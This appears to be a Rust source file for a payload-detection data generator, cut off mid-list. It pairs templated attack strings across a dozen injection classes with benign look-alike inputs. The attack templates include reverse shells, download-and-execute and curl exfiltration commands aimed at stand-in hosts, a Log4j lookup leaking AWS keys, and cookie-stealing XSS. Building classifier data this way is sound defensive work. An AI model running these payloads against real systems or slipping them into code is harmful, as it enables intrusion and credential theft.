//! Templates and lists of the generator. `«slot»`s are filled; ` ¦ ` separates choices, `␤` is a
//! line end.

use jotwatch_models::payload::{Class, Form};

/// Attacks: class, copies of each template, templates.
pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
    (Class::Log4j, 12, "
        ${jndi:«jndi»://«host»/«w»}
        ${jndi:«jndi»://«host»:«n»/«w»«n»}
        ${${lower:j}ndi:«jndi»://«host»/«w»}
        ${${lower:j}${upper:n}${lower:d}${upper:i}:«jndi»://«host»/«w»}
        ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://«host»/«w»}
        ${${env:«w»:-j}ndi${env:«w»:-:}${env:«w»:-l}dap${env:«w»:-:}//«host»/a}
        ${j${k8s:k5:-ND}i:«jndi»://«host»/«w»}
        ${jndi:${lower:l}${lower:d}a${lower:p}://«host»/«w»}
        ${jndi:«jndi»://127.0.0.1#«host»/«w»}
        ${jndi:«jndi»://${env:AWS_SECRET_ACCESS_KEY}.«host»/«w»}
        ${jndi:«jndi»://${hostName}.«host»/«w»}
        ${jn${lower:d}i:l${lower:d}ap://«host»/«w»}
        ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:«jndi»://«host»/a}
        ${env:AWS_SECRET_ACCESS_KEY}
        ${sys:java.version}
        ${jndi:dns://${java:os}.«host»}
    "),
    (Class::Cmdi, 6, "
        () { :;}; «cmd»
        () { :; }; /bin/bash -c '«cmd»'
        () { «w»;}; echo; «cmd»
        () { _; } >_[$($())] { «cmd»; }
        «w»«sep»«cmd»
        «n»«sep» «cmd»
        «w»«sep»«cmd»«tail»
        $(«cmd»)
        «w»$(«cmd»)
        `«cmd»`
        «w»`«cmd»`
        \";«cmd»;\"
        '«sep»«cmd»«sep»'
        \" «sep» «cmd» #
        «n».«n».«n».«n» «sep» «cmd»
        «w».txt«sep»«cmd»
        {cat,/etc/passwd}
        cat$IFS/etc/«file»
        «sep»cat${IFS}/etc/«file»
        «sep»c'a't /etc/«file»
        «sep»c\\at /etc/«file»
        «sep»/???/c?t /etc/«file»
        «cmd» > /dev/null 2>&1
        bash -i >& /dev/tcp/«n».«n».«n».«n»/«n» 0>&1
        nc -e /bin/sh «host» «n»
        rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «host» «n» >/tmp/f
        powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://«host»/«w»')\"
        cmd.exe /c «wincmd»
        «sep» «wincmd»
        | «wincmd»
        <?php «phpfn»($_GET['«w»']); ?>
        <?php echo «phpfn»('«cmd»');?>
        <?=`$_GET[0]`?>
        «phpfn»('«cmd»');
        ;«phpfn»(\"«cmd»\");
        ${@«phpfn»('«cmd»')}
        ';«phpfn»(\"«cmd»\");//
        __import__('os').system('«cmd»')
        __import__('os').popen('«cmd»').read()
        eval(compile('import os; os.system(\"«cmd»\")','','exec'))
        require('child_process').exec('«cmd»')
        global.process.mainModule.require('child_process').execSync('«cmd»')
        Runtime.getRuntime().exec(\"«cmd»\")
        new java.lang.ProcessBuilder(\"«cmd»\").start()
        system('«cmd»')
        perl -e 'system(\"«cmd»\")'
        python -c 'import os;os.system(\"«cmd»\")'
        «cmdpath»
        «cmdpath»
        ls -la /«w»
        ping -n «n» 127.0.0.1
        ping.exe -n «n» 127.0.0.1
        «n»;«cmd»
        «sep»«cmd»«sep»
        «cmd»;
        «cmd»|
    "),
    (Class::Xxe, 8, "
        <?xml version=\"1.0\"?><!DOCTYPE «w» [<!ENTITY «w» SYSTEM \"«xxe»\">]><«w»>&«w»;</«w»>
        <!DOCTYPE «w» [<!ELEMENT «w» ANY><!ENTITY xxe SYSTEM \"«xxe»\">]><«w»>&xxe;</«w»>
        <!DOCTYPE «w» [<!ENTITY % «w» SYSTEM \"«xxe»\"> %«w»;]>
        <?xml version='1.0' encoding='UTF-8'?><!DOCTYPE «w» PUBLIC \"-//«W»\" \"«xxe»\"><«w»/>
        <!DOCTYPE «w» SYSTEM \"«xxe»\">
        <«w» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"«xxe»\"/></«w»>
        <!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>
        <!--#exec cmd=\"«cmd»\" -->
        <!--#include file=\"/etc/«file»\" -->
        <!--#echo var=\"«w»\" -->
        <esi:include src=\"http://«host»/«w»\"/>
    "),
    (Class::Ssti, 6, "
        {{«n»*«n»}}
        «w»{{«n»*'«n»'}}
        ${«n»*«n»}
        #{«n»*«n»}
        *{«n»*«n»}
        @(«n»*«n»)
        <%= «n» * «n» %>
        {{config}}
        {{config.items()}}
        {{self.__init__.__globals__.__builtins__}}
        {{''.__class__.__mro__[«n»].__subclasses__()}}
        {{request.application.__globals__.__builtins__.__import__('os').popen('«cmd»').read()}}
        {{lipsum.__globals__['os'].popen('«cmd»').read()}}
        {{cycler.__init__.__globals__.os.popen('«cmd»').read()}}
        {% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"«cmd»\").read()}}{%endif%}{%endfor%}
        {{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"«cmd»\")}}
        {{['«cmd»']|filter('system')}}
        <#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"«cmd»\") }
        #set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) $rt.getRuntime().exec('«cmd»')
        <%= system('«cmd»') %>
        <%= `«cmd»` %>
        <%= File.open('/etc/«file»').read %>
        {php}echo `«cmd»`;{/php}
        {system('«cmd»')}
        ${T(java.lang.Runtime).getRuntime().exec('«cmd»')}
        %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='«cmd»')}
        ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"«cmd»\").getInputStream(),\"utf-8\"))}
        #{T(java.lang.System).getenv()}
        ${''.getClass().forName('java.lang.Runtime')}
        class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{«w»}i
        {{constructor.constructor('alert(1)')()}}
        {{$on.constructor('alert(1)')()}}
        {{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(«n»,«n»))()}}
    "),
    (Class::Ssrf, 8, "
        http://169.254.169.254/latest/meta-data/«w»
        http://169.254.169.254/latest/meta-data/iam/security-credentials/«w»
        http://metadata.google.internal/computeMetadata/v1/«w»
        http://100.100.100.200/latest/meta-data/
        http://127.0.0.1:«n»/«w»
        http://localhost:«n»/«w»
        http://[::1]:«n»/«w»
        http://0.0.0.0:«n»/
        http://2130706433/«w»
        http://0x7f000001/
        http://0177.0.0.1/
        http://127.1/
        http://10.0.0.«n»/«w»
        http://192.168.«n».«n»:«n»/«w»
        gopher://127.0.0.1:6379/_«w»
        gopher://«host»:25/_MAIL%20FROM
        dict://localhost:11211/stat
        file:///etc/«file»
        ldap://«host»/«w»
        sftp://«host»:«n»/
        http://«w».com@«host»/
        http://«w».com\\@«host»
        http://127.0.0.1.nip.io/«w»
        http://«h».oastify.com
        http://«h».burpcollaborator.net/«w»
        netdoc:///etc/«file»
        jar:http://«host»/«w»!/
    "),
    (Class::Nosql, 10, "
        {\"$ne\": null}
        {\"$gt\": \"\"}
        {\"$regex\": \".*\"}
        {\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}
        {\"$where\": \"sleep(«n»)\"}
        «w»[$ne]
        «w»[$regex]=.*
        [$gt]=
        [$nin][]
        '; return true; var «w»='
        ';return this.«w»=='«w»';//
        ' || '1'=='1
        ' || 1==1//
        ' && this.password.match(/.*/)//
        true, $where: '1 == 1'
        ', $or: [ {}, { '«w»':'«w»
        db.«w».find({$where: function() { return true; }})
        {\"$or\":[{},{\"«w»\":\"«w»\"}]}
    "),
    (Class::Ldap, 10, "
        *)(uid=*))(|(uid=*
        *)(&
        «w»*)((|userPassword=*)
        *)(|(«w»=*
        «w»)(&(objectClass=*)
        *)(objectClass=*))(&(objectClass=void
        admin)(!(&(1=0
        (|(«w»=*)(«w»=*))
        ' or count(/*)=1 or '1'='2
        '] | //user/*[contains(*,'
        ' or //*[name()='«w»'] or '
        x' or name()='«w»' or 'x'='y
        ' and string-length(name(/*[1]))=«n» and '1'='1
    "),
    (Class::Deserialization, 16, "
        rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaML«b64»
        rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZv«b64»
        gASV«b64»
        gAN9cQAoWAQAAA«b64»
        AAEAAAD/////AQAAAAAAAAAMAgAAAE«b64»
        O:«n»:\"«W»\":«n»:{s:«n»:\"«w»\";s:«n»:\"«w»\";}
        O:8:\"stdClass\":1:{s:4:\"«w»\";b:1;}
        a:«n»:{i:0;O:«n»:\"«W»\":0:{}}
    "),
    (Class::Crlf, 10, "
        «w»%0d%0aSet-Cookie:%20«w»=«w»
        «w»%0aSet-Cookie:«w»=«w»
        %0d%0aLocation:%20http://«host»
        /«w»%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK
        «w»%E5%98%8A%E5%98%8DSet-Cookie:%20«w»
        %0d%0aX-«W»:%20«w»
        «n»%0a«upper»:%20«w»%20«w»
        «w»%0d%0a«upper»:%20«text»
        «w»%0a%0d«upper»%20-%20«w»
        «n»%0a«upper»%20«upper»:%20«w»%20«w»
    "),
    (Class::Sqli, 6, "
        «brk»«sp»«bool»«sp»«truth»«end»
        «brk»«sp»«bool»«sp»«truth»
        «n»«sp»«bool»«sp»«numtruth»
        «n»«sp»«bool»«sp»«numtruth»«end»
        «w»«brk»«sp»«bool»«sp»«truth»«end»
        «brk»«sp»union«sp»«all»select«sp»«cols»«end»
        -«n»«sp»union«sp»«all»select«sp»«cols»«from»«end»
        «n»«sp»union«sp»«all»select«sp»«cols»«from»
        union«sp»«all»select«sp»«cols»
        «brk»;«sp»«stmt»«end»
        «n»;«sp»«stmt»«end»
        ;«stmt»«end»
        «brk»«sp»and«sp»(select«sp»«sqlfn»«from»)«cmp»«n»«end»
        «n»«sp»and«sp»(select«sp»«n»«sp»from(select(sleep(«n»)))«w»)
        «n»«sp»and«sp»«sqlfn»«cmp»«n»
        «brk»«sp»and«sp»«sqlfn»«cmp»«n»«end»
        «brk»«sp»or«sp»«time»«end»
        «n»«sp»or«sp»«time»
        «brk»«sp»order«sp»by«sp»«n»«end»
        «n»«sp»order«sp»by«sp»«n»«end»
        «brk»«sp»group«sp»by«sp»«w»«sp»having«sp»«numtruth»«end»
        «brk»«sp»having«sp»«numtruth»«end»
        «n»«sp»procedure«sp»analyse(extractvalue(rand(),concat(0x3a,version())),1)
        «brk»||(«sqlfn»)||'
        «brk»+(select«sp»«sqlfn»)+'
        «w»'«end»
        admin'«end»
        «w»' or '«w»' like '«w»
        «w»\" or \"«w»\"=\"«w»
        ' or «w» is not null«end»
        '=''or'
        '-'
        '^'
        (select(0)from(select(sleep(«n»)))v)
        if(now()=sysdate(),sleep(«n»),0)
        «n»*if(now()=sysdate(),sleep(«n»),0)
        «n» and 1=(select count(*) from «w»)
        «n» rlike (select (case when («n»=«n») then 1 else 0x28 end))
        «time»
        select«sp»«cols»«sp»from«sp»«systable»
        select * from «w»«end»
        select «w» from «w» where «numtruth»«end»
        «n»'||utl_http.request('http://«host»/')||'
        «n» into outfile '/var/www/«w».php'
        «n»,(case when «numtruth» then «n» else null end)
        (case when «numtruth» then «n» else «n»*(select «n» from «systable») end)
        iif(«numtruth»,1,1/0)
        «n»«brk» where «numtruth»«end»
        «n» where «numtruth»;iif(«numtruth»,1,1/0)
        «brk»«sp»where«sp»«numtruth»«sp»«bool»«sp»«sqlfn»
        «n»;select (case when «numtruth» then 1 else 0 end)
        «n»«brk» rlike sleep(«n») «bool» '«w»'='«w»
        «n»«brk» procedure analyse()«end»
        «n» «bool» make_set(«numtruth»,«n»)
        «n»«brk» in boolean mode) union all select «cols»«end»
        «brk»||(select '«w»' where «numtruth»)||'
        «brk») as «w» where «numtruth» «bool» «sqlfn»«end»
        «n»«brk»;declare @x char(9);set @x=0x«h»;waitfor delay '0:0:«n»'«end»
        extractvalue(«n»,concat(0x7e,(select«sp»«sqlfn»)))
        {{\"«w»\":\"«brk» or «truth»«end»\"}}
    "),
    (Class::Xss, 6, "
        <«tag» «handler»=«js»>
        <«tag»/«handler»=«js»>
        <«tag» src=x «handler»=«js»>
        <«tag» src=x «handler»=\"«js»\">
        \"><«tag» «handler»=«js»>
        '><«tag» «handler»='«js»'>
        <script>«js»</script>
        \"><script>«js»</script>
        '><script>«js»</script>
        </script><script>«js»</script>
        </title><script>«js»</script>
        <scr<script>ipt>«js»</scr</script>ipt>
        <script src=//«host»></script>
        <script src=\"http://«host»/«w».js\"></script>
        \" «handler»=\"«js»
        ' «handler»='«js»
        \" autofocus «handler»=«js» x=\"
        javascript:«js»
        java\tscript:«js»
        <a href=\"javascript:«js»\">«w»</a>
        <a href=java&#115;cript:«js»>«w»</a>
        <iframe src=\"javascript:«js»\"></iframe>
        <iframe srcdoc=\"<script>«js»</script>\">
        <object data=\"data:text/html;base64,«b64»\">
        <embed src=\"data:image/svg+xml;base64,«b64»\">
        <svg><script>«js»</script></svg>
        <svg><animate onbegin=«js» attributeName=x>
        <math><a xlink:href=\"javascript:«js»\">«w»
        <style>@import'http://«host»/«w».css';</style>
        <div style=\"width:expression(«js»)\">
        <meta http-equiv=\"refresh\" content=\"0;url=javascript:«js»\">
        <link rel=stylesheet href=//«host»/x.css>
        <base href=//«host»/>
        <form action=javascript:«js»><input type=submit>
        <button formaction=javascript:«js»>«w»
        <body onload=«js»>
        <input onfocus=«js» autofocus>
        <details open ontoggle=«js»>
        <video><source onerror=\"«js»\">
        <x onclick=«js»>«w»
        ';«js»//
        \";«js»//
        '-«js»-'
        \"-«js»-\"
        ';«js»;'
        </script>«js»
        `${«js»}`
        [].constructor.constructor('«js»')()
        window['al'+'ert'](«n»)
        top[\"al\"+\"ert\"](«n»)
        eval(atob('«b64»'))
        setTimeout('«js»',0)
        document.location='http://«host»/?c='+document.cookie
        new Image().src='http://«host»/?'+document.cookie
        fetch('//«host»/'+document.cookie)
        <img src=x onerror=eval(String.fromCharCode(«n»,«n»,«n»))>
        &lt;script&gt;«js»&lt;/script&gt;
        \\u003cscript\\u003e«js»\\u003c/script\\u003e
        \\x3cscript\\x3e«js»
        <<script>«js»//<</script>
        <img \"\"\"><script>«js»</script>\">
        <isindex type=image src=1 onerror=«js»>
        <marquee onstart=«js»>
    "),
    (Class::Traversal, 5, "
        «climb»«target»
        /«climb»«target»
        «w»/«climb»«target»
        /«w»/«climb»«target»
        «climb»«target»%00
        «climb»«target»%00.«ext»
        «climb»«climb»«target»
        /var/www/«w»/«climb»«target»
        «target»
        /«target»
        «w»=«climb»«target»
        c:\\«wintarget»
        c:/«wintarget»
        C:\\Windows\\«wintarget»
        file:///«target»
        file://localhost/«target»
        php://filter/convert.base64-encode/resource=«w»
        php://input
        expect://«cmd»
        phar://«w»/«w».phar
        zip://«w».zip#«w»
        data://text/plain;base64,«b64»
        ..%5c..%5c«wintarget»
        \\\\«host»\\c$\\«w»
        /.git/config
        /.env
        /.ssh/id_rsa
        /WEB-INF/web.xml
        /..;/«w»
        /static/..%2f..%2f«target»
        /proc/self/«proc»
        /var/log/«log»
        /etc/«file»
        /etc/«w»/«w».conf
        /etc/«w».conf
        /«root»/«w»/«w».«own»
        /«root»/«w»/«w»/«w»/«w».«own»
        /«root»/logs/«w»_log
        /«root»/«w»/log/«w»
        /«root»/«log»%00
        /proc/«w»/«w»
        /proc/«n»/fd/«n»
        «drive»\\«w»\\«w».«own»
        «drive»\\«w»\\logs\\«w».«own»
        «drive»/«w»/«w»/«w».«own»
        «drive»/Program Files/«w»/logs/«w».log
        «drive»\\windows\\system32\\config\\«w»
        «drive»/windows/«w».«own»
        \\Program Files\\«W» Group\\«w»\\logs\\«w».log
        /./././././././«target»
        /./.././../«target»
        /0x2e0x2e0x2f0x2e0x2e0x2f«target»
        ..0x2f..0x2f«target»
        ..2f..2f..2f«target»
        /..%uf025..%uf025«target»
    "),
];

/// Legitimate values: copies of each template, their form, templates.
pub(super) const BENIGN: &[(usize, Form, &str)] = &[
    (12, Form::Text, "
        «name»
        «name» «name»
        «name» & «name»
        «name» and «name»
        «W» «name», «n» «W» St.
        «name»@«w».com
        «contraction» «text»
        «text» «contraction» «text»
        «text», «contraction»!
        «w»'s «w» and «w»'s «w»
        the '«w»' and '«w»' «w»
        \"«w»\" or \"«w»\"?
        «text» - \"«text»\" («n»)
        «text» (see #«n»); «text».
        rock 'n' roll «w»
        '«n»s «w»
        5'«n»\" «w» «w»
        «n»\" x «n»\" «w»
        «n»' x «n»' rug
        «shop»
        «shop» «w»
        «w» «shop»
        «shop» «n»
        «w» = «w»
        «w»=«w»
        «w» >= «n» and «w» < «n»
        a = b and c = d «text»
        if x = 1 or y = 2 then «text»
        «n» or «n» «w»
        «n» and «n» «w»
        1+1=2
        «n»=«n»
        «n»/«n»/«n»
        $«n».«n»
        «n»% off «w» & «w»
        100% «w»; «n»% «w»
        c# and c++ «w»
        learn c#
        #«w» #«w»
        @«w» «text»
        «w»--«w»
        «text» -- «text»
        «text» ... «text»
        «text»...
        --
        ---
        «text»; «text»
        «text» | «text»
        «w»|«w»|«w»
        «w» > «w» > «w»
        «w» < «n»
        «n» < x < «n»
        <3 «w»
        :-) «text» <3
        «W»: «text»␤«W»: «text»
        «text»␤␤- «w»␤- «w»␤- «w»
        * «w»␤* «w»
        # «W»␤␤«text»␤␤```␤«code»␤```
        «text» `«w»` «text» `«w»()`
        [«w»](https://«w».com/«w»)
        ![«w»](/«w»/«w».png)
    "),
    (60, Form::Text, "
        «block»
        «block»␤«block»
        | «w» | «text» |␤|---|---|␤| `«w»` | «text»; «contraction» «text» |␤| `--«w»` | `\"«w»\"` «text» |
        «text» `«w» --«w»` «text» (`«w»()`), «text»: `«w».«w»` or `«code»`.
        | «w» | «n» | «n».«n» ms |␤| `id` | «text» |␤| `time` | «text» `user` |␤| type | `file` «w» |
    "),
    (10, Form::Text, "
        «code»
        «code»␤«code»
        «code»␤«code»␤«code»
        «code» // «text»
        /* «text» */␤«code»
        <!-- «text» -->
        «html»
        «html»«html»
        «html»␤«html»
        «text» «html» «text»
        <?xml version=\"1.0\" encoding=\"UTF-8\"?><«w»><«w»>«text»</«w»></«w»>
        <soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><«w»>«n»</«w»></soap:Body></soap:Envelope>
        <«w» id=\"«n»\"><«w»>«w»</«w»></«w»>
        { «w»(id: \"«n»\") { «w» «w» { «w» } } }
        query { «w»(first: «n», filter: {«w»: \"«w»\"}) { edges { node { id } } } }
        {\"query\":\"mutation($id: ID!) { «w»(id: $id) { id } }\"}
        «W» eq '«w»' and «W» gt «n»
        «w»:«w» AND «w»:«w»
        status in («w», «w») order by «w» desc
        «w»,-«w»
        «w».«w»,«w».«w»
        *«w»*
        [«n» TO «n»]
        ^«w»[a-z]+$
        (?i)«w»|«w»
        \\d+\\.\\d+
        «n»,«n»,«n»,«n»
        («n», «n»)
        rgba(«n», «n», «n», 0.5)
        translate(«n»px, «n»px) rotate(«n»deg)
        #«h»
        =SUM(A«n»:B«n»)
        =IF(A1>«n»,\"«w»\",\"«w»\")
        Hello {{first_name}}, «text»
        ${«w»} «text»
        Dear {name}, «text»
        %s «w» %d
        «w»(«n»)
        «W»(«w», «w»)
    "),
    (10, Form::Text, "
        https://«w».com/«w»/«w»?«w»=«n»&«w»=«w»
        https://www.«w».org/«w»#«w»
        http://«w».com:8080/«w»
        //cdn.«w».com/«w».js
        /«w»/«w»/«n»
        /«w»/«w».«ext»
        /home/«w»/«w».«ext»
        /api/v«n»/«w»/«n»/«w»
        ./«w»/«w».js
        ../«w»/«w».css
        «W»\\«W»
        D:\\«W»\\«w».docx
        C:\\Users\\«w»\\Documents\\«w».pdf
        «w»@«w».com
        mailto:«w»@«w».com
        data:image/png;base64,«b64»
        android-app://com.«w».«w»
        /«w»//«w»
        /«w»/;jsessionid=«h»
        «w».php
        /«w»/index.php
        /select/«w»
        /scripts/«w».js
        /cat/«n»
        /bin/«w».zip
        /«w»/etc/«w».html
        /union/«w»
        /«w»..«w»
        1..«n»
        v«n».«n».«n»
        ~«w»/«w»
    "),
    (8, Form::Text, "
        «b64»
        «b64»=
        «h»
        «h»«h»
        «uuid»
        GA1.2.«n»«n».«n»«n»
        fb.1.«n»«n»«n».«n»«n»
        «w»=«h»; «w»=«n»; «w»=«uuid»
        s:«h».«b64»
        {«uuid»}
        W/\"«h»\"
        \"«h»\"
        eyJhbGciOiJIUzI1NiJ9.«b64».«h»
        Bearer «h»
        Basic «b64»
        ----WebKitFormBoundary«h»
        multipart/form-data; boundary=----WebKitFormBoundary«h»
        application/json; charset=utf-8
        text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8
        text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2
        en-US,en;q=0.9,«w»;q=0.8
        gzip, deflate, br;q=1.0, *;q=0.5
        no-cache, no-store, max-age=0
        bytes=«n»-«n»
        \"Chromium\";v=\"«n»\", \"Not(A:Brand\";v=\"24\"
        \"Google Chrome\";v=\"«n»\", \"Not;A=Brand\";v=\"8\"
        /
        /?
        //
        ?
        (
        )
        «n»;
        «w»;
        «w»?
        «w»!
        &
        ;
        ...
        '
        /«w»/
        https://www.«w».com/
        https://«w».«w».«w»/
        ?0
        ?1
        */*
        *
        */*;q=0.«n»
        image/*,*/*;q=0.8
        \"Windows\"
        \"Linux\"
        \"\"
        -
        1; mode=block
        «w»; «w»
        no-cache,«w»
        «w»/«n».«n»
        «w»/«n».«n» («w»; «w»)
        «w»/«n».«n» («W»; «W» «n»; «w»; «w»-«w») «W»/«n».«n»
        timeout=5, max=«n»
        for=«n».«n».«n».«n»;proto=https;by=«n».«n».«n».«n»
        Mozilla/5.0 (iPhone; CPU iPhone OS «n»_«n» like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/«n».0 Mobile/15E148 Safari/604.1
        Mozilla/5.0 (compatible; «W»bot/«n».«n»; +http://«w».com/bot.html)
        Mozilla/5.0 (Linux; Android «n»; «W» Build/«W».«n»; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/«n».0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/«n».0;]
        curl/«n».«n».«n»
        python-requests/2.«n».«n»
        Go-http-client/1.1
        okhttp/4.«n».«n»
        PostmanRuntime/7.«n».«n»
        Wget/1.«n» (linux-gnu)
        Java/1.8.0_«n»
        Tue, «n» Nov 2026 10:«n»:07 GMT
        2026-11-«n»T10:20:30.«n»Z
        +49 («n») «n»-«n»
        («n») «n»-«n»
    "),
    (10, Form::Json, "
        {\"«w»\": \"«text»\", \"«w»\": «n», \"«w»\": [\"«w»\", \"«name»\"]}
        {\"id\": \"«uuid»\", \"«w»\": {\"«w»\": \"«contraction» «text»\"}}
        [{\"op\": \"replace\", \"path\": \"/«w»/«n»\", \"value\": \"«w»\"}]
        {\"html\": \"<p>«text»</p>\", \"css\": \".«w» { color: #«n»; }\"}
        {\"query\": \"«w» AND «w»\", \"sort\": \"-«w»\", \"fields\": [\"«w»\", \"«w».«w»\"]}
        {\"message\": \"«text»\\n«text»\", \"url\": \"https://«w».com/«w»?«w»=«w»\"}
        {\"code\": \"«w»(«w»);\", \"lang\": \"js\"}
        {\"filter\": {\"«w»\": {\"gte\": «n», \"lt\": «n»}}}
        {\"jsonrpc\": \"2.0\", \"method\": \"«w».«w»\", \"params\": [«n», \"«w»\"], \"id\": «n»}
        {\"events\": [{\"name\": \"«w»_«w»\", \"params\": {\"ts\": «n»}}]}
    "),
    (6, Form::Pairs, "
        q=«shop»&page=«n»
        q=«text»&sort=«w»
        name=«name»&city=«W»
        redirect_uri=https%3A%2F%2F«w».com%2F«w»%3F«w»%3D«w»&state=«h»
        filter=%7B%22«w»%22%3A%22«w»%22%7D
        ids[]=«n»&ids[]=«n»
        filter[«w»]=«w»&include=«w».«w»
        comment=«text»%0D%0A%0D%0A«text»&submit=Send
        email=«w»%40«w».com&password=«w»%21«n»%23
        password=«w»%27«n»%26%24
        d=%3Cp%3E«text»%3C%2Fp%3E
        _=«n»«n»&callback=jQuery«n»_«n»
        utm_source=«w»&utm_medium=«w»&utm_campaign=«w»%20-%20«w»
        price=«n»-«n»&color=«w»%2C«w»
        q=%22«w»+«w»%22
        q=«w»+%26+«w»
        q=«w»%27s+«w»
        $filter=«W» eq '«w»'&$top=«n»
        select=«w»,«w»&order=«w».desc
        fields=«w»(«w»,«w»)
    "),
];

/// Lists for slots.
pub(super) const LISTS: &[(&str, &str)] = &[
    ("jndi", "ldap ¦ ldaps ¦ rmi ¦ dns ¦ iiop ¦ http"),
    ("host", "«w».com ¦ «w».evil.org ¦ «n».«n».«n».«n» ¦ «h».oast.fun ¦ x.«w».net:«n»"),
    ("sep", "; ¦ | ¦ || ¦ & ¦ && ¦ %0a ¦ ;; ¦  | "),
    ("tail", "; ¦ | ¦ # ¦ & ¦ ;# ¦  2>&1"),
    (
        "cmd",
        "id ¦ whoami ¦ uname -a ¦ cat /etc/«file» ¦ ls ¦ ls -la ¦ ls -la / ¦ ping -c «n» «host» ¦ sleep «n» ¦ wget http://«host»/«w» ¦ curl http://«host»/«w» ¦ curl -s «host»|sh ¦ nslookup «host» ¦ /bin/cat /etc/«file» ¦ /usr/bin/id ¦ echo «w» ¦ echo «h» ¦ netstat -an ¦ ps aux ¦ ifconfig ¦ head /etc/«file» ¦ nc «host» «n» ¦ pwd ¦ env ¦ touch /tmp/«w» ¦ rm -rf /tmp/«w» ¦ python3 -c 'print(«n»)' ¦ hostname ¦ expr «n» + «n» ¦ set ¦ printenv",
    ),
    (
        "wincmd",
        "dir c:\\ ¦ dir ¦ type c:\\windows\\win.ini ¦ type %SYSTEMROOT%\\win.ini ¦ ipconfig /all ¦ net user ¦ net user «w» «w» /add ¦ systeminfo ¦ tasklist ¦ ping -n «n» 127.0.0.1 ¦ whoami /all ¦ timeout «n» ¦ echo %USERNAME% ¦ ver",
    ),
    (
        "cmdpath",
        "/bin/cat /etc/«file» ¦ /usr/bin/whoami ¦ /bin/ls -al ¦ cat /etc/«file» ¦ /bin/sh -c id ¦ ping -c «n» 127.0.0.1 ¦ wget http://«host»/«w».sh -O /tmp/«w» ¦ curl -d @/etc/«file» http://«host»",
    ),
    ("phpfn", "system ¦ exec ¦ passthru ¦ shell_exec ¦ popen ¦ eval ¦ assert"),
    (
        "file",
        "passwd ¦ shadow ¦ hosts ¦ group ¦ issue ¦ hostname ¦ resolv.conf ¦ crontab ¦ fstab ¦ ssh/sshd_config ¦ apache2/apache2.conf ¦ nginx/nginx.conf ¦ mysql/my.cnf ¦ php.ini ¦ motd ¦ sudoers",
    ),
    ("proc", "environ ¦ cmdline ¦ maps ¦ fd/«n» ¦ status ¦ version"),
    (
        "log",
        "apache2/access.log ¦ apache/error_log ¦ nginx/error.log ¦ auth.log ¦ syslog ¦ httpd/access_log ¦ mail.log ¦ messages",
    ),
    ("ext", "html ¦ jpg ¦ png ¦ pdf ¦ php ¦ txt ¦ css ¦ js ¦ gif ¦ zip"),
    (
        "root",
        "var ¦ usr ¦ usr/local ¦ opt ¦ root ¦ proc ¦ etc ¦ tmp ¦ var/www ¦ var/log ¦ usr/local/apache ¦ boot ¦ opt/lampp ¦ volumes",
    ),
    ("own", "log ¦ ini ¦ conf ¦ cnf ¦ cfg ¦ err ¦ bak ¦ xml ¦ sys ¦ dat"),
    ("drive", "c: ¦ C: ¦ d: ¦ D: ¦ C:\\windows ¦ C:/xampp ¦ c:\\apache"),
    (
        "climb",
        "../ ¦ ../../ ¦ ../../../ ¦ ../../../../../../ ¦ ..\\..\\..\\ ¦ ....//....//....// ¦ ..%2f..%2f..%2f ¦ %2e%2e%2f%2e%2e%2f ¦ ..%252f..%252f ¦ %252e%252e%255c ¦ ..%c0%af..%c0%af ¦ %c0%ae%c0%ae/%c0%ae%c0%ae/ ¦ ..;/..;/ ¦ ..//..// ¦ .../.../ ¦ %u002e%u002e%u2215 ¦ ..%5c ¦ .%2e/.%2e/ ¦ ..\\/..\\/ ¦ ..././..././ ¦ /%5C../%5C../",
    ),
    (
        "target",
        "etc/passwd ¦ etc/shadow ¦ etc/hosts ¦ etc/«file» ¦ windows/win.ini ¦ boot.ini ¦ winnt/win.ini ¦ proc/self/environ ¦ var/log/«log» ¦ WEB-INF/web.xml ¦ «w».php ¦ «w»/config.«ext» ¦ .env ¦ .htaccess ¦ root/.ssh/id_rsa ¦ home/«w»/.bash_history ¦ usr/local/apache2/conf/httpd.conf",
    ),
    (
        "wintarget",
        "win.ini ¦ boot.ini ¦ system32\\drivers\\etc\\hosts ¦ system32\\config\\SAM ¦ inetpub\\logs\\LogFiles ¦ windows\\system.ini ¦ php\\php.ini ¦ xampp\\apache\\logs\\access.log ¦ repair\\sam",
    ),
    (
        "xxe",
        "file:///etc/«file» ¦ file:///c:/windows/win.ini ¦ http://«host»/«w».dtd ¦ php://filter/read=convert.base64-encode/resource=/etc/«file» ¦ http://169.254.169.254/latest/meta-data/ ¦ expect://id ¦ ftp://«host»/«w» ¦ netdoc:///etc/«file»",
    ),
    ("upper", "INFO ¦ ERROR ¦ WARN ¦ LOGIN ¦ SIGNED ¦ ADMIN ¦ USER ¦ ALERT"),
    (
        "brk",
